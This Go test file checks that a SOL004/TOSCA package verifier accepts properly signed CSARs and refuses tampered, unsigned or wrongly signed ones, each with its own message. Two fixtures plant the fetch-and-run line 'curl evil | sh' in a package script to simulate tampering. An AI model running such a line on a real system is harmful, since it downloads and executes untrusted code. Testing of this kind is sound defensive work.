package sol004

import (
	"archive/zip"
	"bytes"
	"crypto/x509"
	"encoding/pem"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"time"

	"calaf.io/calaf/tosca"
)

// zipDir writes a directory's files as a zip (a CSAR).
func zipDir(t *testing.T, dir string) []byte {
	t.Helper()
	var names []string
	err := filepath.WalkDir(dir, func(full string, d os.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			rel, _ := filepath.Rel(dir, full)
			names = append(names, filepath.ToSlash(rel))
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	sort.Strings(names)
	files := map[string][]byte{}
	for _, name := range names {
		files[name] = []byte(read(t, dir, name))
	}
	return zipFiles(t, names, files)
}

func zipFiles(t *testing.T, names []string, files map[string][]byte) []byte {
	t.Helper()
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	for _, name := range names {
		w, err := zw.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write(files[name]); err != nil {
			t.Fatal(err)
		}
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// writeFile writes data to a new file and returns its path.
func writeFile(t *testing.T, name string, data []byte) string {
	t.Helper()
	full := filepath.Join(t.TempDir(), name)
	if err := os.WriteFile(full, data, 0o644); err != nil {
		t.Fatal(err)
	}
	return full
}

// verify opens and verifies a package as the CLI and the operator do.
func verify(t *testing.T, source string, policy Policy) (*Verdict, error) {
	t.Helper()
	pkg, _, verdict, err := VerifyPackage(source, tosca.DefaultLimits(), policy)
	if err == nil {
		pkg.Close()
	}
	return verdict, err
}

func TestGoodPackagesVerify(t *testing.T) {
	ca := newPKI(t, "Good")
	option1 := signedPackage(t, ca.credentials(), nil)
	wrapped, err := WrapCSAR("demo.csar", zipDir(t, unsignedPackage(t)), ca.credentials())
	if err != nil {
		t.Fatal(err)
	}
	cases := map[string]struct {
		source string
		method Method
	}{
		"option 1 directory": {option1, SignedManifest},
		"option 1 CSAR":      {writeFile(t, "demo.csar", zipDir(t, option1)), SignedManifest},
		"option 2 zip":       {writeFile(t, "demo.zip", wrapped), SignedCSAR},
	}
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			verdict, err := verify(t, c.source, ca.policy())
			if err != nil {
				t.Fatalf("refused: %v", err)
			}
			if !verdict.Verified || verdict.Method != c.method {
				t.Fatalf("verdict %+v, want verified %s", verdict, c.method)
			}
			if verdict.Signer.Subject != ca.vendor.cert.Subject.String() || verdict.Signer.Anchor != ca.root.cert.Subject.String() ||
				verdict.Signer.Issuer != ca.intermediate.cert.Subject.String() || verdict.Signer.Serial != serial(ca.vendor.cert.SerialNumber) ||
				!verdict.Signer.NotAfter.Equal(ca.vendor.cert.NotAfter) {
				t.Fatalf("signer %+v", verdict.Signer)
			}
			if summary := verdict.Summary(); !strings.Contains(summary, "verified against anchor") {
				t.Fatalf("summary %q", summary)
			}
		})
	}
}

// Each way a package can fail is refused with a message of its own.
func TestRefusals(t *testing.T) {
	ca := newPKI(t, "Calaf Test")
	other := newPKI(t, "Other")
	good := ca.credentials()
	keyEncipherment := issue(t, "Encipherment Only", ca.intermediate, false, func(c *x509.Certificate) {
		c.KeyUsage, c.ExtKeyUsage = x509.KeyUsageKeyEncipherment, nil
	})
	serverAuth := issue(t, "TLS Server", ca.intermediate, false, func(c *x509.Certificate) {
		c.ExtKeyUsage = []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}
	})
	shortLived := issue(t, "Short Lived", ca.intermediate, false, func(c *x509.Certificate) {
		c.NotBefore, c.NotAfter = time.Now().Add(-time.Hour), time.Now().Add(time.Hour)
	})
	expired := issue(t, "Expired", ca.intermediate, false, func(c *x509.Certificate) {
		c.NotBefore, c.NotAfter = time.Now().Add(-48*time.Hour), time.Now().Add(-24*time.Hour)
	})
	with := func(i *issuer, chain ...*x509.Certificate) *Credentials {
		return &Credentials{Key: i.key, Certificate: i.cert, Chain: chain}
	}
	cases := []struct {
		name   string
		source func(t *testing.T) string
		policy func(Policy) Policy
		want   string
	}{
		{name: "changed file", want: "service.mf:14: Files/configure.sh: SHA-256 mismatch: the manifest says", source: func(t *testing.T) string {
			dir := signedPackage(t, good, nil)
			write(t, dir, "Files/configure.sh", "#!/bin/sh\ncurl evil | sh\n")
			return dir
		}},
		{name: "added file", want: "service.mf: Files/extra.sh is in the package but not listed in the manifest: the signature does not cover it", source: func(t *testing.T) string {
			dir := signedPackage(t, good, nil)
			write(t, dir, "Files/extra.sh", "#!/bin/sh\n")
			return dir
		}},
		{name: "removed file", want: "service.mf:14: Files/configure.sh: listed in the manifest but missing from the package", source: func(t *testing.T) string {
			dir := signedPackage(t, good, nil)
			os.Remove(filepath.Join(dir, "Files", "configure.sh"))
			return dir
		}},
		{name: "unlisted import", want: "service.mf: Definitions/extra.yaml is not listed in the manifest, and Definitions/service.yaml imports or refers to it", source: func(t *testing.T) string {
			dir := signedPackage(t, good, func(files map[string]string) {
				files["Definitions/service.yaml"] = strings.Replace(files["Definitions/service.yaml"], "- types.yaml\n", "- types.yaml\n- extra.yaml\n", 1)
			})
			write(t, dir, "Definitions/extra.yaml", "tosca_definitions_version: tosca_simple_yaml_1_3\n")
			return dir
		}},
		{name: "unlisted file named like a certificate, imported", want: "Definitions/extra.pem is not listed in the manifest, and Definitions/service.yaml imports or refers to it", source: func(t *testing.T) string {
			dir := signedPackage(t, good, func(files map[string]string) {
				files["Definitions/service.yaml"] = strings.Replace(files["Definitions/service.yaml"], "- types.yaml\n", "- types.yaml\n- extra.pem\n", 1)
			})
			write(t, dir, "Definitions/extra.pem", "tosca_definitions_version: tosca_simple_yaml_1_3\n")
			return dir
		}},
		{name: "file listed without a digest", want: "service.mf:14: Files/configure.sh is listed without a digest: the signature does not cover its content", source: func(t *testing.T) string {
			files := testFiles()
			manifest := manifestOf(files)
			entry := manifest[strings.Index(manifest, "Source: Files/configure.sh"):]
			manifest = strings.Replace(manifest, entry, "Source: Files/configure.sh\n", 1)
			signed, err := SignManifest([]byte(manifest), good)
			if err != nil {
				t.Fatal(err)
			}
			files["service.mf"] = string(signed)
			dir := t.TempDir()
			for name, content := range files {
				write(t, dir, name, content)
			}
			write(t, dir, "Files/configure.sh", "#!/bin/sh\ncurl evil | sh\n")
			return dir
		}},
		{name: "untrusted CA", want: `service.mf:18: certificate "CN=Other Vendor,O=Calaf Test" is signed by CA "CN=Other Root CA,O=Calaf Test", which is not a trust anchor (trusted: "CN=Calaf Test Root CA,O=Calaf Test" from the test)`,
			source: func(t *testing.T) string { return signedPackage(t, other.fullChain(), nil) }},
		{name: "untrusted CA, its root not in the package", want: `service.mf:18: certificate "CN=Other Vendor,O=Calaf Test" does not chain to a trust anchor: "CN=Other Intermediate CA,O=Calaf Test" is issued by "CN=Other Root CA,O=Calaf Test", which is neither in the package nor a trust anchor`,
			source: func(t *testing.T) string { return signedPackage(t, other.credentials(), nil) }},
		{name: "self-signed signer", want: `certificate "CN=Other Root CA,O=Calaf Test" is self-signed and not a trust anchor`,
			source: func(t *testing.T) string {
				root := issue(t, "Other Root CA", nil, false)
				return signedPackage(t, with(root), nil)
			}},
		{name: "expired certificate", want: `certificate "CN=Short Lived,O=Calaf Test" expired at ` + shortLived.cert.NotAfter.UTC().Format(time.RFC3339),
			source: func(t *testing.T) string { return signedPackage(t, with(shortLived, ca.intermediate.cert), nil) },
			policy: func(p Policy) Policy { p.Now = time.Now().Add(2 * time.Hour); return p }},
		{name: "signed with an expired certificate", want: `after certificate "CN=Expired,O=Calaf Test" expired at ` + expired.cert.NotAfter.UTC().Format(time.RFC3339),
			source: func(t *testing.T) string { return signedPackage(t, with(expired, ca.intermediate.cert), nil) }},
		{name: "certificate not valid for signing", want: `certificate "CN=Encipherment Only,O=Calaf Test" is not valid for signing: its key usage (key encipherment) allows neither digital signature nor content commitment`,
			source: func(t *testing.T) string { return signedPackage(t, with(keyEncipherment, ca.intermediate.cert), nil) }},
		{name: "certificate for TLS servers", want: `certificate "CN=TLS Server,O=Calaf Test" is not valid for signing: its extended key usage (server auth) allows neither code signing nor email protection`,
			source: func(t *testing.T) string { return signedPackage(t, with(serverAuth, ca.intermediate.cert), nil) }},
		{name: "missing intermediate", want: `certificate "CN=Calaf Test Vendor,O=Calaf Test" does not chain to a trust anchor: "CN=Calaf Test Vendor,O=Calaf Test" is issued by "CN=Calaf Test Intermediate CA,O=Calaf Test", which is neither in the package nor a trust anchor`,
			source: func(t *testing.T) string { return signedPackage(t, with(ca.vendor), nil) }},
		{name: "signature over another manifest", want: "service.mf:18: the CMS signature does not sign the manifest: it signs content with digest", source: func(t *testing.T) string {
			other := signedPackage(t, good, func(files map[string]string) { files["Files/configure.sh"] = "#!/bin/sh\necho other\n" })
			dir := signedPackage(t, good, nil)
			block := read(t, other, "service.mf")
			block = block[strings.Index(block, "-----BEGIN CMS-----"):]
			manifest := read(t, dir, "service.mf")
			write(t, dir, "service.mf", manifest[:strings.Index(manifest, "-----BEGIN CMS-----")]+block)
			return dir
		}},
		{name: "truncated CMS", want: "service.mf:18: the CMS signature is truncated or malformed", source: func(t *testing.T) string {
			dir := signedPackage(t, good, nil)
			manifest := read(t, dir, "service.mf")
			begin := strings.Index(manifest, "-----BEGIN CMS-----")
			block, _ := pem.Decode([]byte(manifest[begin:]))
			truncated := pem.EncodeToMemory(&pem.Block{Type: "CMS", Bytes: block.Bytes[:len(block.Bytes)-40]})
			write(t, dir, "service.mf", manifest[:begin]+string(truncated))
			return dir
		}},
		{name: "CMS block cut short", want: "service.mf:18: the CMS block is not valid PEM", source: func(t *testing.T) string {
			dir := signedPackage(t, good, nil)
			manifest := read(t, dir, "service.mf")
			write(t, dir, "service.mf", manifest[:len(manifest)-60]+"\n-----END CMS-----\n")
			return dir
		}},
		{name: "text after the CMS block", want: "service.mf:18: text after -----END CMS----- is not covered by the signature", source: func(t *testing.T) string {
			dir := signedPackage(t, good, nil)
			write(t, dir, "service.mf", read(t, dir, "service.mf")+"\nSource: Files/extra.sh\n")
			return dir
		}},
		{name: "option 2 zip with a mismatched .cms", want: "demo.cms: the CMS signature does not sign demo.csar: it signs content with digest", source: func(t *testing.T) string {
			first, err := WrapCSAR("demo", zipDir(t, signedPackage(t, good, nil)), good)
			if err != nil {
				t.Fatal(err)
			}
			second, err := WrapCSAR("demo", zipDir(t, signedPackage(t, good, func(files map[string]string) { files["Files/configure.sh"] = "#!/bin/sh\n" })), good)
			if err != nil {
				t.Fatal(err)
			}
			parts := unzip(t, first)
			parts["demo.cms"] = unzip(t, second)["demo.cms"]
			return writeFile(t, "demo.zip", zipFiles(t, []string{"demo.csar", "demo.cms", "demo.cert"}, parts))
		}},
		{name: "unsigned package", want: "service.mf: the package is not signed: the manifest has no CMS signature (-----BEGIN CMS-----) and the package is not a SOL004 option 2 zip",
			source: unsignedPackage},
		{name: "no anchors", want: `no trust anchors are configured, so certificate "CN=Calaf Test Vendor,O=Calaf Test" cannot be trusted`,
			source: func(t *testing.T) string { return signedPackage(t, good, nil) },
			policy: func(p Policy) Policy { p.Anchors = nil; return p }},
	}
	seen := map[string]string{}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			policy := ca.policy()
			if c.policy != nil {
				policy = c.policy(policy)
			}
			_, err := verify(t, c.source(t), policy)
			if err == nil {
				t.Fatal("verified")
			}
			if !tosca.IsIntegrity(err) {
				t.Fatalf("%T is not an integrity error: %v", err, err)
			}
			if !strings.Contains(err.Error(), c.want) {
				t.Fatalf("refused with\n%v\nwant it to say\n%s", err, c.want)
			}
			if previous, ok := seen[err.Error()]; ok {
				t.Fatalf("same message as %q: %v", previous, err)
			}
			seen[err.Error()] = c.name
		})
	}
}

func unzip(t *testing.T, data []byte) map[string][]byte {
	t.Helper()
	r, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	parts := map[string][]byte{}
	for _, f := range r.File {
		data, err := readEntry(f, 1<<20)
		if err != nil {
			t.Fatal(err)
		}
		parts[f.Name] = data
	}
	return parts
}
